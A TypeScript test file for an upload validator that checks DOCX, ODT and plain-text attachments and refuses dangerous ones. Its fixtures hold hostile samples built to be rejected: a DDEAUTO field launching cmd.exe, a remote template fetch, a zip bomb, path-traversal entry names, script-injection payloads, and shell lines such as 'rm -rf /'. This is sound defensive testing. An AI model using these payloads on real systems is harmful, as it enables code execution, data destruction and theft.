import { crc32, deflateRawSync } from 'node:zlib';
import { Document, ExternalHyperlink, Packer, Paragraph, TextRun } from 'docx';
import { describe, expect, it } from 'vitest';
import { docxParts, odtParts, type RawEntry, REL, xml, zip } from '../../test/helpers/office-packages.js';
import { DOCX_MEDIA_TYPE, judgeAttachmentContent, ODT_MEDIA_TYPE, TEXT_MEDIA_TYPE } from './attachment-content.js';

/**
 * Uploads are judged by what they are, and refused when they carry something that acts when
 * opened: an office package is opened with bounded decompression and its structure checked; text
 * that is markup or a script is not plain text. The packages are written byte by byte
 * (test/helpers/office-packages.ts), so that each holds exactly the part a test is about.
 */

const refusal = (bytes: Uint8Array) => {
  const judgement = judgeAttachmentContent(bytes);
  return 'refused' in judgement ? judgement.refused : null;
};
const mediaType = (bytes: Uint8Array) => {
  const judgement = judgeAttachmentContent(bytes);
  return 'mediaType' in judgement ? judgement.mediaType : null;
};

describe('DOCX and ODT packages', () => {
  it('accepts a Word document written by a word processor library, links to the web included', async () => {
    const document = new Document({
      sections: [
        {
          children: [
            new Paragraph({ children: [new TextRun('Comments of the Republic of Korea on X.1353')] }),
            new Paragraph({
              children: [new ExternalHyperlink({ link: 'https://www.itu.int/', children: [new TextRun('ITU')] })],
            }),
          ],
        },
      ],
    });
    expect(mediaType(await Packer.toBuffer(document))).toBe(DOCX_MEDIA_TYPE);
    expect(mediaType(zip(docxParts()))).toBe(DOCX_MEDIA_TYPE);
  });

  it('accepts an OpenDocument text with its mimetype first and stored', () => {
    expect(mediaType(zip(odtParts()))).toBe(ODT_MEDIA_TYPE);
  });

  it('refuses any ZIP that merely has a word/ folder (it used to pass as DOCX)', () => {
    expect(refusal(zip([{ name: 'word/', data: Buffer.alloc(0), method: 0 }]))).toMatch(/neither a DOCX nor an ODT/);
    expect(refusal(zip([{ name: 'word/readme.txt', data: Buffer.from('hello') }]))).not.toBeNull();
    expect(refusal(zip(docxParts().filter((entry) => entry.name !== 'word/document.xml')))).toMatch(
      /no main document part/,
    );
  });

  it('refuses an executable inside a document, under any folder', () => {
    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
    expect(refusal(zip(docxParts({ extra: [{ name: 'word/media/setup.exe', data: exe }] })))).toMatch(/executable/);
    expect(refusal(zip(odtParts([{ name: 'Pictures/run.js', data: Buffer.from('alert(1)') }])))).toMatch(/executable/);
  });

  it('refuses macros: vbaProject.bin, a macro-enabled content type, ODF Basic/ and Scripts/', () => {
    expect(refusal(zip(docxParts({ extra: [{ name: 'word/vbaProject.bin', data: Buffer.from('macro') }] })))).toMatch(
      /macros/,
    );
    expect(
      refusal(
        zip(
          docxParts({
            contentTypes: `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
          }),
        ),
      ),
    ).toMatch(/macros/);
    expect(refusal(zip(odtParts([{ name: 'Basic/Standard/Module1.xml', data: xml('<script/>') }])))).toMatch(/macros/);
    expect(refusal(zip(odtParts([], '<script:event-listener script:language="ooo:script"/>')))).toMatch(/scripts/);
  });

  it('refuses embedded OLE objects and ActiveX controls, and keeps the data of a chart', () => {
    expect(
      refusal(zip(docxParts({ extra: [{ name: 'word/embeddings/oleObject1.bin', data: Buffer.from('ole') }] }))),
    ).toMatch(/embedded objects/);
    expect(refusal(zip(docxParts({ extra: [{ name: 'word/activeX/activeX1.xml', data: xml('<ax:ocx/>') }] })))).toMatch(
      /ActiveX/,
    );
    expect(
      refusal(
        zip(
          odtParts([]).map((entry) =>
            entry.name === 'META-INF/manifest.xml'
              ? {
                  ...entry,
                  data: xml(
                    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/></manifest:manifest>',
                  ),
                }
              : entry,
          ),
        ),
      ),
    ).toMatch(/OLE/);
    expect(
      mediaType(
        zip(
          docxParts({ extra: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: Buffer.from('PK') }] }),
        ),
      ),
    ).toBe(DOCX_MEDIA_TYPE);
  });

  it('refuses external relationships that fetch when the file opens (a remote template), and DDE fields', () => {
    const settingsRels: RawEntry = {
      name: 'word/_rels/settings.xml.rels',
      data: xml(
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://198.51.100.66/template.dotm" TargetMode="External"/></Relationships>`,
      ),
    };
    expect(refusal(zip(docxParts({ extra: [settingsRels] })))).toMatch(/external attachedTemplate/);
    const fileLink: RawEntry = {
      name: 'word/_rels/document.xml.rels',
      data: xml(
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${REL}/hyperlink" Target="file://198.51.100.66/share" TargetMode="External"/></Relationships>`,
      ),
    };
    expect(refusal(zip(docxParts({ extra: [fileLink] })))).toMatch(/external hyperlink/);
    expect(
      refusal(
        zip(
          docxParts({
            documentXml:
              '<w:document xmlns:w="w"><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>',
          }),
        ),
      ),
    ).toMatch(/DDE/);
  });

  it('refuses a zip bomb (1.3 MB that unpacks to 1.25 GiB) after inflating no more than its budget', () => {
    const block = Buffer.alloc(64 * 1024 * 1024);
    const compressed = deflateRawSync(block, { level: 9 });
    const crc = crc32(block);
    const bomb = zip([
      ...docxParts(),
      ...Array.from({ length: 20 }, (_, i) => ({
        name: `word/media/zeros${i}.xml`,
        data: Buffer.alloc(0),
        compressed,
        declaredSize: block.length,
        crc,
      })),
    ]);
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
    expect(refusal(bomb)).toMatch(/unpacks to more than 104857600 bytes/);
  });

  it('refuses an entry that unpacks to more than its declared size (a bomb that lies)', () => {
    const big = Buffer.alloc(8 * 1024 * 1024);
    expect(
      refusal(
        zip([
          ...docxParts(),
          { name: 'word/media/image1.png', data: big, compressed: deflateRawSync(big), declaredSize: 1000 },
        ]),
      ),
    ).toMatch(/size is not the one declared|unpacks to more/);
  });

  it('refuses entries named outside the package, encrypted entries, and truncated archives', () => {
    expect(refusal(zip([...docxParts(), { name: '../../etc/cron.d/job', data: Buffer.from('x') }]))).toMatch(/outside/);
    expect(refusal(zip([...docxParts(), { name: 'C:/evil.txt', data: Buffer.from('x') }]))).toMatch(/outside/);
    const whole = zip(docxParts());
    expect(refusal(whole.subarray(0, whole.length - 30))).not.toBeNull();
  });
});

describe('plain text', () => {
  it('accepts UTF-8 text in any language, with tabs, line breaks and a byte-order mark', () => {
    for (const text of [
      'Comments on X.1353\r\n\tClause 6: align with X.1250.\n',
      '\ufeffتعليقات على التوصية X.1353',
      '对 X.1353 的意见：第 6 条。',
      'Le texte < 3 pages ; a > b.',
    ])
      expect({ text, type: mediaType(Buffer.from(text, 'utf8')) }).toEqual({ text, type: TEXT_MEDIA_TYPE });
  });

  it('refuses HTML, SVG and XML, however they begin', () => {
    for (const text of [
      '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
      '  \n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      '<?xml version="1.0"?><x/>',
      'Comments follow.\n<script>alert(1)</script>',
      'Dear colleagues,\n<iframe src="https://198.51.100.66/"></iframe>',
      '\ufeff<html></html>',
    ])
      expect({ text, refused: refusal(Buffer.from(text, 'utf8')) !== null }).toEqual({ text, refused: true });
  });

  it('refuses scripts and text with control characters (terminal escapes, binaries)', () => {
    for (const text of [
      '#!/bin/sh\nrm -rf /\n',
      '@echo off\r\ndel /q *\r\n',
      'Title\u001b[2J\u001b]0;owned\u0007',
      'a\u0000b',
    ])
      expect({ text, refused: refusal(Buffer.from(text, 'utf8')) !== null }).toEqual({ text, refused: true });
  });

  it('still refuses executables and bytes that are not UTF-8', () => {
    expect(refusal(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(64)]))).not.toBeNull();
    expect(refusal(Buffer.from([0xc3, 0x28, 0x41]))).not.toBeNull();
  });
});
